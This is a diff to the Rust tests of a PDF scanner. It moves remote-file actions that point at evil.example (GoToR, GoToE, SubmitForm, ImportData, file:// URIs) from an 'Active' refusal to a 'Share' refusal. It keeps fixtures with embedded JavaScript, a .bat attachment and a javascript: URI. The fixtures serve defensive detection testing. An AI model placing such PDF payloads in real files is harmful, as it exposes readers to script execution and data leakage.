@@ -39,20 +39,24 @@ fn actions_that_run_something_are_refused_however_they_are_written() {
         "5 0 obj<</A % obj (\n/S/JavaScript>>",
         "5 0 obj<</A( obj \\( % )/S/JavaScript>>",
         "5 00000000000000000000000000000000000000000000000000000000obj/JavaScript ",
-        // Files on other computers, programs, and addresses that are scripts.
-        "<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>",
-        "5 0 obj<</S/GoToE/F 6 0 R>>endobj 6 0 obj(//evil.example/a.pdf)endobj",
-        "<</S/SubmitForm/F<</FS/URL/F(file://evil.example/a)>>>>",
-        "<</S/ImportData/F<5C5C6576696C>>>",
+        // Programs, and addresses that are scripts.
         "<</EF<</F 9 0 R>>/F(x)/UF(x.bat)>>",
         "<</UF 6 0 R/EF 5 0 R>>endobj 6 0 obj<FEFF0078002E006A0073>endobj",
         "<</S/URI/URI(javascript:alert\\(1\\))>>",
-        "<</S/URI/URI(file://evil.example/a)>>",
     ] {
         assert_eq!(refusal(text), Some(Refusal::Active), "{text}");
     }
     let far = format!("<</S{}/JavaScript>>", " ".repeat(200_000));
     assert_eq!(Names::default().refusal(far.as_bytes()), Some(Refusal::Active));
+    for text in [
+        "<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>",
+        "5 0 obj<</S/GoToE/F 6 0 R>>endobj 6 0 obj(//evil.example/a.pdf)endobj",
+        "<</S/SubmitForm/F<</FS/URL/F(file://evil.example/a)>>>>",
+        "<</S/ImportData/F<5C5C6576696C>>>",
+        "<</S/URI/URI(file://evil.example/a)>>",
+    ] {
+        assert_eq!(refusal(text), Some(Refusal::Share), "{text}");
+    }
     for text in
         ["trailer<</Size 4/Encrypt 9 0 R>>", "(trailer<</Size 4/#45ncrypt 9 0 R>>)", "5 0 obj<</Type/XRef/Encrypt %\n<</V 4>>>>"]
     {
